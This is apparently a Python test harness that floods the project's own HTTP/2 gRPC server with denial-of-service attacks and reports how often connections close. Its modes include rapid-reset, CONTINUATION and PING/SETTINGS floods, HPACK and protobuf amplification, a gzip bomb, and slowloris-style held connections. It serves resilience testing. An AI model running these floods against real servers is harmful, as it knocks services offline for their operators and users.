#!/usr/bin/env python3
"""Attacks on a port of ours, one a run: `attack.py MODE HOST:PORT [--count N] [--seconds S] [--clients C] [--proven]`.

Prints one JSON line: what was sent and how often the server closed a connection. What it does to the server is measured by attack_test.py.
"""

import argparse
import gzip
import json
import os
import select
import socket
import struct
import threading
import time

import http2
from http2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame

HELLO = PREFACE + frame(SETTINGS, 0, 0)
# A query's headers in full, then as references into the table that they made: what a flood sends of them costs few bytes.
BLOCK = http2.header_block(http2.COMPUTE_ACTIONS)
# A valid call, which --proven makes on each connection first. What a mode does begins with stream 3.
ASKED = http2.message(http2.query_bytes("shared", [[0.1, 0.0, -0.2, 0.0]]))
CALL = frame(HEADERS, END_HEADERS, 1, BLOCK) + frame(DATA, END_STREAM, 1, ASKED)


def discard(sock):
    """Reads what there is, so that the server is never held up; False once it has closed."""
    sock.setblocking(False)
    try:
        while True:
            got = sock.recv(1 << 16)
            if not got:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


class Flood:
    """Sends bytes on a connection as fast as it takes them; connects anew when the server closes it."""

    def __init__(self, address, deadline, proven):
        self.address, self.deadline, self.proven = address, deadline, proven
        self.begun = time.monotonic()
        self.sent, self.connections, self.closed = 0, 0, 0
        self.answers = "read"

    def greet(self, sock, windows):
        sock.sendall(HELLO + (CALL if self.proven else b""))
        windows.left[0] -= len(ASKED) if self.proven else 0
        answered = not self.proven
        while not answered and time.monotonic() < self.deadline:
            answered = any(stream == 1 and kind == HEADERS and flags & END_STREAM for kind, flags, stream, _ in windows.read(0.05))

    def run(self, count, batches):
        """`batches(n)`: the bytes of a fresh connection's next `n` abuses; each of them counts once."""
        while self.sent < count and time.monotonic() < self.deadline:
            try:
                sock = http2.connect(self.address, 2)
            except OSError:
                time.sleep(0.01)
                continue
            self.connections += 1
            try:
                self.greet(sock, Windows(sock, []))
                produce = batches()
                while self.sent < count and time.monotonic() < self.deadline:
                    abuses, data = next(produce)
                    sock.settimeout(max(0.01, self.deadline - time.monotonic()))
                    sock.sendall(data)
                    self.sent += abuses
                    if self.answers == "read" and not discard(sock):
                        raise OSError
                # It is read until the time is over, so that nothing is over because we left.
                while time.monotonic() < self.deadline and (self.answers == "unread" or discard(sock)):
                    time.sleep(0.01)
            except (OSError, StopIteration):
                self.closed += 1
            finally:
                sock.close()


class Unread(Flood):
    """A flood that never reads what the server has to say to it."""

    def __init__(self, address, deadline, proven):
        super().__init__(address, deadline, proven)
        self.answers = "unread"


def resets():
    stream = 3
    while True:
        data = b""
        for _ in range(50):
            data += frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield 50, data


def settings():
    # INITIAL_WINDOW_SIZE and MAX_FRAME_SIZE change back and forth.
    data = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 65535 + i % 2, 5, 16384 + i % 2)) for i in range(50))
    while True:
        yield 50, data


def pings():
    data = frame(PING, 0, 0, b"12345678") * 50
    while True:
        yield 50, data


def window_updates():
    data = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 50
    while True:
        yield 50, data


def empty_data():
    yield 0, frame(HEADERS, END_HEADERS, 3, BLOCK)
    data = frame(DATA, 0, 3) * 50
    while True:
        yield 50, data


def streams():
    """Calls that begin and never end."""
    stream = 3
    while True:
        data = b""
        for _ in range(50):
            data += frame(HEADERS, END_HEADERS, stream, BLOCK)
            stream += 2
        yield 50, data


def unknown_methods():
    stream = 3
    block = http2.header_block("/troupe.v1.Nobody/Knows")
    while True:
        data = b""
        for _ in range(50):
            data += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            stream += 2
        yield 50, data


def big_headers():
    """One header of 8 MiB in CONTINUATION frames."""
    yield 0, frame(HEADERS, 0, 3, http2.header_block(http2.COMPUTE_ACTIONS) + b"\0\3big" + http2.hpack_int(8 << 20, 7))
    while True:
        yield 1, frame(CONTINUATION, 0, 3, b"x" * 16384)


def many_fields():
    """Calls with a field in the connection's table that stands 4000 times, one byte each."""
    stream = 3
    block = http2.header_block(http2.COMPUTE_ACTIONS) + b"\x40\1a\1b" + b"\xbe" * 4000
    while True:
        yield 1, frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        stream += 2


def big_message(size, compressed=b""):
    def batches():
        head = struct.pack(">BI", 1 if compressed else 0, len(compressed) or size)
        yield 0, frame(HEADERS, END_HEADERS, 3, BLOCK if not compressed else http2.header_block(
            http2.COMPUTE_ACTIONS, [("grpc-encoding", "gzip")]))
        if compressed:
            yield 1, frame(DATA, 0, 3, head + compressed[:16000])
            for begin in range(16000, len(compressed), 16384):
                yield 1, frame(DATA, 0, 3, compressed[begin:begin + 16384])
        yield 1, frame(DATA, 0, 3, head + b"x" * 16000)
        while True:
            yield 1, frame(DATA, 0, 3, b"x" * 16384)
    return batches


class Windows:
    """What a client may send on each of its streams (0: the connection), as the server says it. It gives the server none beyond the first 65,535
    bytes. The server's PING and SETTINGS are answered."""

    def __init__(self, sock, streams):
        self.sock, self.left, self.initial, self.incoming = sock, dict.fromkeys([0, *streams], 65535), 65535, b""

    def most(self, stream):
        return min(self.left[0], self.left[stream])

    def spend(self, stream, size):
        self.left[0] -= size
        self.left[stream] -= size

    def read(self, wait):
        """The frames that have come within so many seconds."""
        if select.select([self.sock], [], [], wait)[0]:
            got = self.sock.recv(1 << 16)
            if not got:
                raise OSError
            self.incoming += got
        frames, self.incoming = http2.split_frames(self.incoming)
        for kind, flags, stream, body in frames:
            if kind == WINDOW_UPDATE and stream in self.left:
                self.left[stream] += struct.unpack(">I", body)[0]
            elif kind == SETTINGS and not flags & ACK:
                for number, value in struct.iter_unpack(">HI", body):
                    if number == 4:
                        self.left = {of: left + (value - self.initial if of else 0) for of, left in self.left.items()}
                        self.initial = value
                self.sock.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.sock.sendall(frame(PING, ACK, 0, body))
            elif kind == http2.GOAWAY:
                raise OSError
        return frames


class Windowed(Flood):
    """A flood of DATA that keeps to the server's windows, as any client must whose bytes are to be taken."""

    def run(self, count, batches):
        while time.monotonic() < self.deadline and self.sent < count:
            try:
                sock = http2.connect(self.address, 2)
            except OSError:
                time.sleep(0.01)
                continue
            self.connections += 1
            try:
                self.one(sock, count, batches())
            except (OSError, StopIteration, struct.error):
                self.closed += 1
            finally:
                sock.close()

    def one(self, sock, count, produce):
        windows, pending = Windows(sock, [3]), None
        self.greet(sock, windows)
        while self.sent < count and time.monotonic() < self.deadline:
            if pending is None:
                abuses, pending = next(produce)
            size = len(pending) - 9 if pending[3] == DATA else 0
            wait = 0.05
            if size <= windows.most(3):
                sock.settimeout(max(0.01, self.deadline - time.monotonic()))
                sock.sendall(pending)
                windows.spend(3, size)
                self.sent += abuses
                pending, wait = None, 0
            if any(kind == RST_STREAM for kind, _, _, _ in windows.read(wait)):
                raise OSError


class Unfinished(Windowed):
    """After a valid call: many calls on each connection, of whose messages everything but the end comes. Counts MiB."""

    STREAMS, ANNOUNCED, SENT = 50, 5_000_000, 4_900_000
    FRAME = 16384
    PACE, AWAITS = None, True
    # What each call is, in turns, what its message begins with, and what it repeats.
    CALLS = [(http2.COMPUTE_ACTIONS, b"", b"x")]

    def one(self, sock, count, produce):
        sock.sendall(HELLO + CALL)
        streams = range(3, 3 + 2 * self.STREAMS, 2)
        windows, left, answered, over = Windows(sock, streams), {}, False, 0
        windows.left[0] -= len(ASKED)
        while time.monotonic() < self.deadline and self.sent < count:
            sent = False
            # Whole messages one after the other: a connection may have few bytes of unfinished ones.
            for stream in [stream for stream in left if left[stream]][:1] if self.SENT == self.ANNOUNCED else list(left):
                size = min(self.FRAME, left[stream])
                if size == 0 or size > windows.most(stream):
                    continue
                sock.settimeout(max(0.01, self.deadline - time.monotonic()))
                _, head, piece = self.CALLS[stream // 2 % len(self.CALLS)]
                last = self.SENT == self.ANNOUNCED and size == left[stream]
                head = head if left[stream] == self.SENT else b""
                sock.sendall(frame(DATA, END_STREAM if last else 0, stream, head + piece * ((size - len(head)) // len(piece))))
                windows.spend(stream, size)
                left[stream], sent = left[stream] - size, True
                self.sent += size / 2**20
                if self.PACE:
                    time.sleep(max(0.0, self.sent / self.PACE - (time.monotonic() - self.begun)))
            if self.SENT == self.ANNOUNCED and left and not any(left.values()) and (over >= len(left) or not self.AWAITS):
                return
            for kind, flags, stream, _ in windows.read(0 if sent else 0.05):
                over += stream in left and bool(flags & END_STREAM) and kind in (HEADERS, DATA)
                if stream == 1 and flags & END_STREAM and not answered:
                    answered = True
                    for begun in streams:
                        method, _, _ = self.CALLS[begun // 2 % len(self.CALLS)]
                        sock.sendall(frame(HEADERS, END_HEADERS, begun, http2.header_block(method))
                                     + frame(DATA, 0, begun, struct.pack(">BI", 0, self.ANNOUNCED)))
                    left = dict.fromkeys(streams, self.SENT)


class Amplified(Unfinished):
    """Whole messages of nothing but empty elements and fields, two bytes each, which take hundreds in memory once they are parsed."""

    STREAMS, ANNOUNCED, SENT = 12, 5_000_000, 5_000_000
    CALLS = [(http2.COMPUTE_ACTIONS, b"", b"\x0a\x00"), ("/troupe.v1.Query/DescribePolicies", b"", b"\x0a\x00"),
             (http2.COMPUTE_ACTIONS, b"", b"\x7a\x00"), ("/troupe.v1.Monitor/Status", b"", b"\x7a\x00")]


class AmplifiedStreams(Unfinished):
    """Streams of workers and subscribers that begin with 96 KiB of nothing but empty elements, or of one policy named again and again."""

    STREAMS, ANNOUNCED, SENT = 12, 98304, 98304
    PACE = 18.0 / 8  # MiB a second and client, few enough that the sender's own time is not what is measured
    AWAITS = False  # a subscription goes on
    # Policies of a fragment, unknown texts; a subscription that would be good, of slot 0 again and again, and ids.
    CALLS = [("/troupe.v1.Rollout/Stream", b"\x12\xfc\xff\x05", b"\x5a\x00"), ("/troupe.v1.Weights/Subscribe", b"\x0a\x02\x08\x01\x28\x01", b"\x30\x00"),
             ("/troupe.v1.Rollout/Stream", b"", b"\x72\x00"), ("/troupe.v1.Weights/Subscribe", b"", b"\x1a\x00")]


class UnreadAnswers(Windowed):
    """Whole queries of 1024 rows, one after the other on many streams, whose answers the client never reads. Counts MiB."""

    STREAMS = 60
    QUERY = http2.message(http2.query_bytes("shared", [[0.1, 0.0, -0.2, 0.0]] * 1024))

    def one(self, sock, count, produce):
        streams = range(3, 3 + 2 * self.STREAMS, 2)
        block = http2.header_block("/troupe.v1.Query/StreamActions")
        windows, unsent = Windows(sock, streams), dict.fromkeys(streams, self.QUERY)
        self.greet(sock, windows)
        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in streams))
        while time.monotonic() < self.deadline and self.sent < count:
            sent = False
            for stream, rest in unsent.items():
                size = min(len(rest), 16384, windows.most(stream))
                if size <= 0:
                    continue
                sock.settimeout(max(0.01, self.deadline - time.monotonic()))
                sock.sendall(frame(DATA, 0, stream, rest[:size]))
                windows.spend(stream, size)
                unsent[stream], sent = rest[size:] or self.QUERY, True
                self.sent += size / 2**20
            windows.read(0 if sent else 0.05)


def hold_connections(address, count, seconds, first_bytes):
    """Connects `count` times at once and keeps what it gets; a connection that was closed is made anew."""
    deadline = time.monotonic() + seconds
    held, made, closed, failed = {}, 0, 0, 0
    poll = select.poll()
    while time.monotonic() < deadline:
        while len(held) < count and time.monotonic() < deadline:
            sock = socket.socket()
            sock.setblocking(False)
            host, port = address.rsplit(":", 1)
            try:
                sock.connect((host, int(port)))
            except BlockingIOError:
                pass
            except OSError:
                failed += 1
                sock.close()
                break
            made += 1
            held[sock.fileno()] = [sock, first_bytes]
            poll.register(sock, select.POLLIN | (select.POLLOUT if first_bytes else 0))
            if made % 64 == 0:
                break
        for fd, event in poll.poll(1):
            sock, unsent = held[fd]
            gone = bool(event & (select.POLLHUP | select.POLLERR))
            if not gone and event & select.POLLOUT and unsent:
                try:
                    sock.send(unsent)
                    held[fd][1] = b""
                    poll.modify(sock, select.POLLIN)
                except OSError:
                    gone = True
            if gone or (event & select.POLLIN and not discard(sock)):
                poll.unregister(fd)
                sock.close()
                del held[fd]
                closed += 1
    for sock, _ in held.values():
        sock.close()
    return {"connections": made, "closed": closed, "held_at_end": len(held), "refused": failed}


# Mode -> what a connection of it sends first and then never again; with --proven, behind a call.
HOLDS = {
    "idle": b"",
    "half_preface": PREFACE[:10],
    "settings_only": HELLO,
    "unknown_method": HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 3, http2.header_block("/troupe.v1.Nobody/Knows")),
    "no_body": HELLO + frame(HEADERS, END_HEADERS, 3, BLOCK),
}
FLOODS = {
    "resets": resets,
    "settings": settings,
    "pings": pings,
    "window_updates": window_updates,
    "empty_data": empty_data,
    "streams": streams,
    "unknown_methods": unknown_methods,
    "big_headers": big_headers,
    "many_fields": many_fields,
}
MODES = sorted([*HOLDS, *FLOODS, "message", "gzip", "settings_unread", "unfinished", "amplified", "amplified_streams", "unread_answers"])


def raise_descriptor_limit():
    import resource
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=MODES)
    parser.add_argument("address")
    parser.add_argument("--count", type=int, default=40000, help="abuses, or connections held at once")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--clients", type=int, default=1, help="connections that flood side by side")
    parser.add_argument("--proven", action="store_true", help="each connection makes a valid call first")
    options = parser.parse_args()
    os.nice(19)
    raise_descriptor_limit()
    if options.mode in HOLDS:
        first = HOLDS[options.mode]
        if options.proven:
            first = HELLO + CALL + first.removeprefix(HELLO)
        print(json.dumps(hold_connections(options.address, options.count, options.seconds, first)))
        return
    if options.mode == "message":
        kind, batches = Windowed, big_message(256 << 20)
    elif options.mode == "gzip":
        kind, batches = Windowed, big_message(0, gzip.compress(b"\0" * (256 << 20), 1))
    elif options.mode == "unfinished":
        kind, batches = Unfinished, tuple
    elif options.mode == "amplified":
        kind, batches = Amplified, tuple
    elif options.mode == "amplified_streams":
        kind, batches = AmplifiedStreams, tuple
    elif options.mode == "unread_answers":
        kind, batches = UnreadAnswers, tuple
    elif options.mode == "settings_unread":
        kind, batches = Unread, settings
    else:
        kind, batches = Flood, FLOODS[options.mode]
    deadline = time.monotonic() + options.seconds
    floods = [kind(options.address, deadline, options.proven) for _ in range(options.clients)]
    threads = [threading.Thread(target=flood.run, args=(options.count, batches)) for flood in floods]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"sent": round(sum(f.sent for f in floods)), "connections": sum(f.connections for f in floods),
                      "closed": sum(f.closed for f in floods)}))


if __name__ == "__main__":
    main()
